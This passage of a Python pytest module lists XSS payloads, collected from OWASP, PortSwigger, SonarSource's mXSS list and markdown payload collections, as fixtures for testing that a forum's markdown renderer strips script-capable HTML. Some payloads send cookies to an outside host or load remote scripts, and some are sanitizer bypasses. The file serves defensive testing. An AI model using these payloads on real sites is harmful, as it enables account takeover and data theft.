"""Nothing that can run script survives `render_markdown`.

Every vector below was collected from a public XSS list (named in the comment above each group) and is
fed to `render_markdown` on its own and embedded in the markdown constructs a member can use (link text,
link destination, link title, image alt, table cell, quoted list item, heading, code span). The output is
parsed with a real HTML5 parser (html5lib, the tree builder browsers' parsing rules are specified by) and,
as a second opinion, with the standard library's html.parser, and must contain:

* no element outside the post allow-list, and in particular none that can run or load script
  (script, iframe, object, embed, svg, math, style, link, meta, base, form, input, button, img, ...);
* no attribute outside the allow-list, no event handler (on*) and no style attribute;
* no URL-bearing attribute whose value, once HTML-unescaped and stripped of control characters and
  whitespace, starts with javascript:, vbscript: or data: -- nor any other scheme than http, https, mailto;
* no comment (IE's conditional comments ran script);
* and every <a> carries rel="nofollow ugc noopener noreferrer".
"""

from __future__ import annotations

import html
import re
import unicodedata
from html.parser import HTMLParser

import pytest

from forum.content import render_markdown

try:  # html5lib proper if it is installed; otherwise the copy bleach vendors (same code, same parser).
    import html5lib
except ImportError:  # pragma: no cover - depends on the environment
    from bleach._vendor import html5lib

LINK_REL = "nofollow ugc noopener noreferrer"

# Written out here rather than imported so that widening the module's allow-list has to be done
# deliberately in both places.
SAFE_TAGS = frozenset({
    "a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
})
SAFE_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"align"}, "td": {"align"}}
SCRIPT_CAPABLE_TAGS = frozenset({
    "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form",
    "input", "button", "img", "video", "audio", "source", "frame", "frameset", "applet", "noscript",
    "template", "textarea", "select", "isindex", "marquee", "bgsound", "xml", "image", "use", "animate",
    "set", "foreignobject", "body", "html", "head", "title", "xmp", "plaintext", "noembed", "portal",
})
URL_ATTRIBUTES = frozenset({
    "href", "xlink:href", "src", "action", "formaction", "data", "srcset", "poster", "background",
    "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "usemap", "ping", "manifest", "archive",
    "classid", "icon", "profile", "folder", "from", "to", "values", "srcdoc",
})
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_XLINK_NS = "{http://www.w3.org/1999/xlink}"


def V(vector_id: str, payload: str):  # noqa: N802 - reads as a table
    return pytest.param(payload, id=vector_id)


# --------------------------------------------------------------------------------------------------
# OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet" (after RSnake's ha.ckers.org list).
# --------------------------------------------------------------------------------------------------
OWASP = [
    V("owasp-script-src", "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>"),
    V("owasp-polyglot-locator",
      "javascript:/*--></title></style></textarea></script></xmp>\n"
      "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>"),
    V("owasp-malformed-a-quoted", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    V("owasp-malformed-a-unquoted", "<a onmouseover=alert(document.cookie)>xxs link</a>"),
    V("owasp-malformed-img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    V("owasp-img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    V("owasp-img-src-hash-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    V("owasp-img-src-empty-onmouseover", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    V("owasp-img-no-src-onmouseover", "<IMG onmouseover=\"alert('xxs')\">"),
    V("owasp-img-onerror", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    V("owasp-img-onerror-entity-encoded",
      '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
      '&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039'
      '&#0000088&#0000083&#0000083&#0000039&#0000041">'),
    V("owasp-img-decimal-entities",
      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;"
      "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
    V("owasp-img-padded-decimal-no-semicolons",
      "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
      "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
      "&#0000083&#0000083&#0000039&#0000041>"),
    V("owasp-img-hex-no-semicolons",
      "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
      "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"),
    V("owasp-img-embedded-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    V("owasp-img-embedded-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    V("owasp-img-embedded-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    V("owasp-img-embedded-encoded-cr", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    V("owasp-img-embedded-null", '<IMG SRC=java\x00script:alert("XSS")>'),
    V("owasp-img-leading-space-and-meta", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    V("owasp-script-slash-xss-attr", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    V("owasp-body-onload-non-alpha", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"),
    V("owasp-script-slash-src", '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    V("owasp-extraneous-open-bracket", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    V("owasp-no-closing-script-tag", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >"),
    V("owasp-script-protocol-resolution", "<SCRIPT SRC=//xss.rocks/.j>"),
    V("owasp-half-open-img", "<IMG SRC=\"javascript:alert('XSS')\""),
    V("owasp-iframe-double-open-bracket", "<iframe src=http://xss.rocks/scriptlet.html <"),
    V("owasp-escaping-js-escapes", "\\\";alert('XSS');//"),
    V("owasp-close-and-open-script", "</script><script>alert('XSS');</script>"),
    V("owasp-end-title", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    V("owasp-input-image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
    V("owasp-body-background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    V("owasp-img-dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    V("owasp-img-lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
    V("owasp-style-list-style-image",
      "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
    V("owasp-img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    V("owasp-img-livescript", '<IMG SRC="livescript:[code]">'),
    V("owasp-svg-onload", "<svg/onload=alert('XSS')>"),
    V("owasp-es6-set-constructor", "Set.constructor`alert\\x28document.domain\\x29"),
    V("owasp-body-onload", "<BODY ONLOAD=alert('XSS')>"),
    V("owasp-bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
    V("owasp-br-js-include", "<BR SIZE=\"&{alert('XSS')}\">"),
    V("owasp-link-stylesheet-js", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
    V("owasp-link-stylesheet-remote", '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">'),
    V("owasp-style-import-remote", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"),
    V("owasp-meta-link-header", '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">'),
    V("owasp-style-moz-binding", '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>'),
    V("owasp-style-import-escaped", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
    V("owasp-img-style-expression-comment", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    V("owasp-a-style-expression",
      "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>"),
    V("owasp-style-type-javascript", "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>"),
    V("owasp-style-background-image-class",
      "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>"),
    V("owasp-style-body-background",
      "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>"),
    V("owasp-anonymous-tag-style-expression", "<XSS STYLE=\"xss:expression(alert('XSS'))\">"),
    V("owasp-local-htc-behavior", '<XSS STYLE="behavior: url(xss.htc);">'),
    V("owasp-us-ascii-encoding", "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be"),
    V("owasp-meta-refresh-js", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
    V("owasp-meta-refresh-data",
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    V("owasp-meta-refresh-extra-url",
      "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">"),
    V("owasp-iframe-js", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    V("owasp-iframe-onmouseover", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
    V("owasp-frameset-frame", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    V("owasp-table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    V("owasp-td-background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">"),
    V("owasp-div-background-image", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
    V("owasp-div-background-image-unicode",
      "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
      "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">"),
    V("owasp-div-background-image-extra-chars", "<DIV STYLE=\"background-image: url(\x01javascript:alert('XSS'))\">"),
    V("owasp-div-expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    V("owasp-downlevel-hidden-comment", "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->"),
    V("owasp-base-href-js", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    V("owasp-object-scriptlet", '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'),
    V("owasp-embed-flash", '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>'),
    V("owasp-embed-svg-data",
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0i'
      'aHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9u'
      'PSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNj'
      'cmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'),
    V("owasp-xml-data-island-cdata",
      "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>\n"
      '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>'),
    V("owasp-html-time",
      '<HTML><BODY>\n<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">\n'
      '<?import namespace="t" implementation="#default#time2">\n'
      '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>">\n</BODY></HTML>'),
    V("owasp-script-src-jpg", '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>'),
    V("owasp-ssi-exec",
      "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->"),
    V("owasp-php-echo", "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>"),
    V("owasp-meta-set-cookie", "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">"),
    V("owasp-utf7",
      "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>"
      "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-"),
    V("owasp-script-quote-encapsulation-1", '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
    V("owasp-script-quote-encapsulation-2", '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
    V("owasp-script-quote-encapsulation-3", "<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>"),
    V("owasp-script-quote-encapsulation-4", "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>"),
    V("owasp-script-quote-encapsulation-grave", '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
    V("owasp-script-quote-encapsulation-mixed", "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>"),
    V("owasp-script-document-write",
      '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
    V("owasp-img-onload-atob",
      "<img onload=\"eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU='))\">"),
    V("owasp-a-mixed-encoding-whitespace", '<A HREF="h \ntt  p://6\t6.000146.0x7.147/">XSS</A>'),
    V("owasp-a-js-document-location", "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>"),
]

# --------------------------------------------------------------------------------------------------
# PortSwigger Web Security Academy, "Cross-site scripting (XSS) cheat sheet" (its public data set:
# protocols, classic, useful tags, events, restricted characters, obfuscation, polyglots).
# --------------------------------------------------------------------------------------------------
PORTSWIGGER = [
    V("ps-iframe-src-js", '<iframe src="javascript:alert(1)">'),
    V("ps-object-data-js", '<object data="javascript:alert(1)">'),
    V("ps-embed-src-js", '<embed src="javascript:alert(1)">'),
    V("ps-a-href-js", '<a href="javascript:alert(1)">XSS</a>'),
    V("ps-a-href-js-mixed-case", '<a href="JaVaScript:alert(1)">XSS</a>'),
    V("ps-a-href-leading-space-tab", '<a href=" \tjavascript:alert(1)">XSS</a>'),
    V("ps-a-href-tab-inside-scheme", '<a href="javas\tcript:alert(1)">XSS</a>'),
    V("ps-a-href-newline-before-colon", '<a href="javascript\n:alert(1)">XSS</a>'),
    V("ps-svg-a-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>'),
    V("ps-svg-animate-values",
      "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) />"
      "<a id=xss><text x=20 y=20>XSS</text></a>"),
    V("ps-svg-animate-from",
      "<svg><animate xlink:href=#xss attributeName=href from=javascript:alert(1) to=1 />"
      "<a id=xss><text x=20 y=20>XSS</text></a>"),
    V("ps-svg-set-to",
      "<svg><set xlink:href=#xss attributeName=href from=? to=javascript:alert(1) />"
      "<a id=xss><text x=20 y=20>XSS</text></a>"),
    V("ps-script-src-data", '<script src="data:text/javascript,alert(1)"></script>'),
    V("ps-svg-script-href-data", '<svg><script href="data:text/javascript,alert(1)" />'),
    V("ps-svg-use-data-url",
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' "
      "xmlns:xlink='http://www.w3.org/1999/xlink' width='100' height='100'><a xlink:href='javascript:alert(1)'>"
      "<rect x='0' y='0' width='100' height='100' /></a></svg>#x\"></use></svg>"),
    V("ps-script-import-data", "<script>import('data:text/javascript,alert(1)')</script>"),
    V("ps-base-js-rewrites-relative", '<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>test</a>'),
    V("ps-math-makes-tag-clickable", '<math><x href="javascript:alert(1)">blah'),
    V("ps-button-formaction", "<form><button formaction=javascript:alert(1)>XSS"),
    V("ps-input-formaction", "<form><input type=submit formaction=javascript:alert(1) value=XSS>"),
    V("ps-form-action", "<form action=javascript:alert(1)><input type=submit value=XSS>"),
    V("ps-svg-use-external", '<svg><use href="//subdomain1.portswigger-labs.net/use_element/upload.php#x" /></svg>'),
    V("ps-svg-animate-keytimes",
      "<svg><animate xlink:href=#xss attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 "
      'values="https://portswigger.net?&semi;javascript:alert(1)&semi;0" /><a id=xss><text x=20 y=20>XSS</text></a>'),
    V("ps-a-href-js-comment-newline", '<a href="javascript://%0aalert(1)">XSS</a>'),
    V("ps-iframe-srcdoc", '<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>'),
    V("ps-iframe-srcdoc-entities", '<iframe srcdoc="&lt;img src=1 onerror=alert(1)&gt;"></iframe>'),
    V("ps-form-label-for-submit", '<form action="javascript:alert(1)"><input type=submit id=x></form><label for=x>XSS</label>'),
    V("ps-input-hidden-accesskey", '<input type="hidden" accesskey="X" onclick="alert(1)">'),
    V("ps-link-canonical-accesskey", '<link rel="canonical" accesskey="X" onclick="alert(1)" />'),
    V("ps-img-src-js", '<img src="javascript:alert(1)">'),
    V("ps-body-background-js", '<body background="javascript:alert(1)">'),
    V("ps-iframe-data-url", '<iframe src="data:text/html,<img src=1 onerror=alert(document.domain)>">'),
    V("ps-vbscript-handlers",
      '<a href="vbscript:MsgBox+1">XSS</a>\n<a href="#" onclick="vbs:Msgbox+1">XSS</a>\n'
      '<a href="#" language=vbs onclick="vbscript:Msgbox+1">XSS</a>'),
    V("ps-jscript-encode", '<a href=# language="JScript.Encode" onclick="#@~^CAAAAA==C^+.D`8#mgIAAA==^#~@">XSS</a>'),
    V("ps-a-title-js-entity", '<a title="&{alert(1)}">XSS</a>'),
    V("ps-link-javascript-stylesheet", '<link href="xss.js" rel=stylesheet type="text/javascript">'),
    V("ps-a-style-behavior", '<a style="behavior:url(#default#AnchorClick);" folder="javascript:alert(1)">XSS</a>'),
    V("ps-div-style-moz-binding-escaped", '<div style="\\-\\mo\\z-binding:url(//businessinfo.co.uk/labs/xbl/xbl.xml#xss)">'),
    V("ps-div-style-expression-escaped", "<div style=xss:expressio\\6e(alert(1))>"),
    V("ps-div-style-expression-entity", "<div style=xss:expressio&#x5c;6e(alert(1))>"),
    V("ps-a-href-null-after-ampersand", '<a href="javascript&\x00#x6a;avascript:alert(1)">Firefox</a>'),
    V("ps-a-href-null-inside-named-entity", '<a href="javascript&\x00colon\x00;alert(1)">Firefox</a>'),
    V("ps-comment-null-inside-opener", '<!-\x00- ><img title="--><iframe/onload=alert(1)>"> -->'),
    V("ps-svg-any-tag-onload", "<svg><xss onload=alert(1)>"),
    V("ps-isindex-formaction", "<isindex type=submit formaction=javascript:alert(1)>"),
    V("ps-svg-discard-onbegin", "<svg><discard onbegin=alert(1)>"),
    V("ps-img-onloadstart", "<img src=validimage.png onloadstart=alert(1)>"),
    V("ps-marquee-onstart", "<marquee onstart=alert(1)>XSS</marquee>"),
    V("ps-menu-onshow", "<div contextmenu=xss><p>Right click<menu type=context id=xss onshow=alert(1)></menu></div>"),
    V("ps-a-assignable-protocol", '<a href="%0aalert(1)" onclick="protocol=\'javascript\'">test</a>'),
    V("ps-svg-use-data-base64",
      '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz4'
      'KPGltYWdlIGhyZWY9IjEiIG9uZXJyb3I9ImFsZXJ0KDEpIiAvPgo8L3N2Zz4=#x" /></svg>'),
    V("ps-object-codebase", "<object data=# codebase=javascript:alert(document.domain)//>"),
    V("ps-embed-codebase-hashbang", '<embed src="#!\nalert(1)" codebase=javascript:>'),
    V("ps-video-onprogress", "<video controls onprogress=alert(1)><source src=validvideo.mp4 type=video/mp4></video>"),
    V("ps-audio-onsuspend", "<audio controls onsuspend=alert(1)><source src=validaudio.mp3 type=audio/mpeg></audio>"),
    V("ps-style-onanimationstart", '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>'),
    V("ps-body-onselectstart", "<body onselectstart=alert(1)>select some text"),
    V("ps-dialog-onclose", "<dialog open onclose=alert(1)><form method=dialog><button>XSS</button></form>"),
    V("ps-onbeforescriptexecute", "<xss onbeforescriptexecute=alert(1)><script>1</script>"),
    V("ps-input-onauxclick", "<input onauxclick=alert(1)>"),
    V("ps-a-contenteditable-onbeforecopy", '<a onbeforecopy="alert(1)" contenteditable>test</a>'),
    V("ps-details-ontoggle", "<details open ontoggle=alert(1)>"),
    V("ps-script-onerror-throw", "<script>onerror=alert;throw 1</script>"),
    V("ps-script-template-literal", "<script>alert`1`</script>"),
    V("ps-video-source-onerror-exfil", "<video><source onerror=location=/\\02.rs/+document.cookie>"),
    V("ps-svg-onload-no-gt", "<svg onload=alert(1) "),
    V("ps-svg-onload-no-gt-comment", "<svg onload=alert(1)<!--"),
    V("ps-svg-onload-window-name", "<script>window.name='javascript:alert(1)';</script><svg onload=location=name>"),
    V("ps-script-uppercase-src", "<SCRIPT SRC=HTTPS://PORTSWIGGER-LABS.NET/A.JS></SCRIPT>"),
    V("ps-img-onerror-concealed-attributes", "<img src onerror=src=1,attributes[1].value=alt+id alt=ale id=rt&lpar;1&rpar;>"),
    V("ps-input-autofocus-onfocus", '<input onfocus="attributes[0].value=id+URL+id,new onfocus" id=` autofocus>'),
    V("ps-script-src-data-base64", "<script src=data:text/javascript;base64,YWxlcnQoMSk=></script>"),
    V("ps-polyglot-1",
      "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"),
    V("ps-polyglot-2",
      "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
      "<html \\\"\n onmouseover=/*&lt;svg/*/onload=alert()//>"),
    V("ps-polyglot-3",
      "javascript:/*--></title></style></textarea></script></xmp>"
      "<details/open/ontoggle='+/`/+/\"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)//'>"),
]

# --------------------------------------------------------------------------------------------------
# SonarSource "mXSS cheatsheet" (mutation XSS payloads that bypassed DOMPurify, Mozilla bleach,
# closure-library and TYPO3's html-sanitizer).
# --------------------------------------------------------------------------------------------------
MXSS = [
    V("mxss-dompurify-2.0.0-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    V("mxss-dompurify-2.0.17-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    V("mxss-dompurify-2.0.17-mglyph-comment",
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;'
      'onerror=alert(1)&gt;">'),
    V("mxss-dompurify-2.0.17-table-id",
      "<math><mtext><table><mglyph><style><math><table id=\u201d</table>\u201d><img src onerror=alert(1)\u201d>"),
    V("mxss-dompurify-2.2.0-svg-mtext",
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">'),
    V("mxss-dompurify-2.2.3-desc-noscript",
      '<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;p>&lt;/p>&lt;style>&lt;a title="&lt;/style>'
      '&lt;img src onerror=alert(1)>">'),
    V("mxss-dompurify-3.0.8-annotation-xml",
      "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src='x' onerror='alert(1)'>\">"),
    V("mxss-dompurify-3.1.7-foreignobject",
      '<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src onerror=alert(1)>">.'),
    V("mxss-bleach-3.1.0-noscript-style", "<noscript><style></noscript><img src=x onerror=alert(1)>"),
    V("mxss-bleach-3.1.1-svg-style", "<svg><style><img src=x onerror=alert(1)>"),
    V("mxss-bleach-3.2.3-math-comment", "<math><p></p><style><!--</style><img src/onerror=alert(1)>--></style></math>"),
    V("mxss-closure-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    V("mxss-typo3-bogus-comment", '<!--a foo=--!><img src=x onerror=alert(1)><!--<a>">'),
    V("mxss-typo3-cdata-math", "<![CDATA[<math><img src=x onerror=alert(1)>]]>"),
]

# --------------------------------------------------------------------------------------------------
# markdown-it's own security fixture (test/fixtures/markdown-it/xss.txt in markdown-it/markdown-it,
# which markdown-it-py ports).
# --------------------------------------------------------------------------------------------------
MARKDOWN_IT = [
    V("mdit-link-javascript", "[xss link](javascript:alert(1))"),
    V("mdit-link-javascript-upper", "[xss link](JAVASCRIPT:alert(1))"),
    V("mdit-link-vbscript", "[xss link](vbscript:alert(1))"),
    V("mdit-link-vbscript-upper", "[xss link](VBSCRIPT:alert(1))"),
    V("mdit-link-file", "[xss link](file:///123)"),
    V("mdit-link-entity-encoded-script-tag", "[xss link](&#34;&#62;&#60;script&#62;alert&#40;&#34;xss&#34;&#41;&#60;/script&#62;)"),
    V("mdit-link-entity-J", "[xss link](&#74;avascript:alert(1))"),
    V("mdit-link-double-encoded-J", "[xss link](&#x26;#74;avascript:alert(1))"),
    V("mdit-link-escaped-entity-J", "[xss link](\\&#74;avascript:alert(1))"),
    V("mdit-link-angle-javascript", "[xss link](<javascript:alert(1)>)"),
    V("mdit-link-entity-colon", "[xss link](javascript&#x3A;alert(1))"),
    V("mdit-image-data-gif-whitelisted", "![](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)"),
    V("mdit-link-data-html-base64", "[xss link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)"),
    V("mdit-image-javascript", "![xss link](javascript:alert(1))"),
    V("mdit-autolink-entity-colon", "<javascript&#x3A;alert(1)>"),
    V("mdit-autolink-javascript", "<javascript:alert(1)>"),
    V("mdit-linkify-entity-colon", "javascript&#x3A;alert(1)"),
    V("mdit-linkify-javascript", "javascript:alert(1)"),
    V("mdit-reference-javascript", "[test]: javascript:alert(1)\n\n[test]"),
    V("mdit-fence-info-entity", "```js&#32;custom-class\ntest1\n```\n\n```js&#x0C;custom-class\ntest2\n```"),
]

# --------------------------------------------------------------------------------------------------
# JakobTheDev, information-security "Payloads/md/XSS.md" (markdown XSS payloads; many trace back to
# the Telescope CVE-2014-5144 write-up).
# --------------------------------------------------------------------------------------------------
MARKDOWN_PAYLOADS = [
    V("mdxss-basic", "[Basic](javascript:alert('Basic'))"),
    V("mdxss-local-storage", "[Local Storage](javascript:alert(JSON.stringify(localStorage)))"),
    V("mdxss-case-insensitive", "[CaseInsensitive](JaVaScRiPt:alert('CaseInsensitive'))"),
    V("mdxss-url-comment-newline", "[URL](javascript://www.google.com%0Aalert('URL'))"),
    V("mdxss-in-quotes", "[In Quotes]('javascript:alert(\"InQuotes\")')"),
    V("mdxss-image-src-breakout-onload", "![Escape SRC - onload](https://www.example.com/image.png\"onload=\"alert('ImageOnLoad'))"),
    V("mdxss-image-src-breakout-onerror", "![Escape SRC - onerror](\"onerror=\"alert('ImageOnError'))"),
    V("mdxss-prompt-cookie", "[XSS](javascript:prompt(document.cookie))"),
    V("mdxss-spaced-scheme", "[XSS](j    a   v   a   s   c   r   i   p   t:prompt(document.cookie))"),
    V("mdxss-hex-entities-no-semicolons",
      "[XSS](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58"
      "&#x53&#x53&#x27&#x29)"),
    V("mdxss-reference-parenthesised", "[XSS]: (javascript:prompt(document.cookie))\n\n[XSS]"),
    V("mdxss-onerror-throw", "[XSS](javascript:window.onerror=alert;throw%20document.cookie)"),
    V("mdxss-crlf-comment", "[XSS](javascript://%0d%0aprompt(1))"),
    V("mdxss-crlf-comment-com", "[XSS](javascript://%0d%0aprompt(1);com)"),
    V("mdxss-crlf-onerror", "[XSS](javascript://%0d%0awindow.onerror=alert;throw%20document.cookie)"),
    V("mdxss-vbscript-domain", "[XSS](vbscript:alert(document.domain))"),
    V("mdxss-this-alert", "[XSS](javascript:this;alert(1))"),
    V("mdxss-this-alert-entity-paren", "[XSS](javascript:this;alert(1&#41;)"),
    V("mdxss-entity-colon-no-semicolon", "[XSS](javascript&#58this;alert(1&#41;)"),
    V("mdxss-entity-c", "[XSS](Javas&#99;ript:alert(1&#41;)"),
    V("mdxss-percent-encoded-entity", "[XSS](Javas%26%2399;ript:alert(1&#41;)"),
    V("mdxss-noncharacter-entity", "[XSS](javascript:alert&#65534;(1&#41;)"),
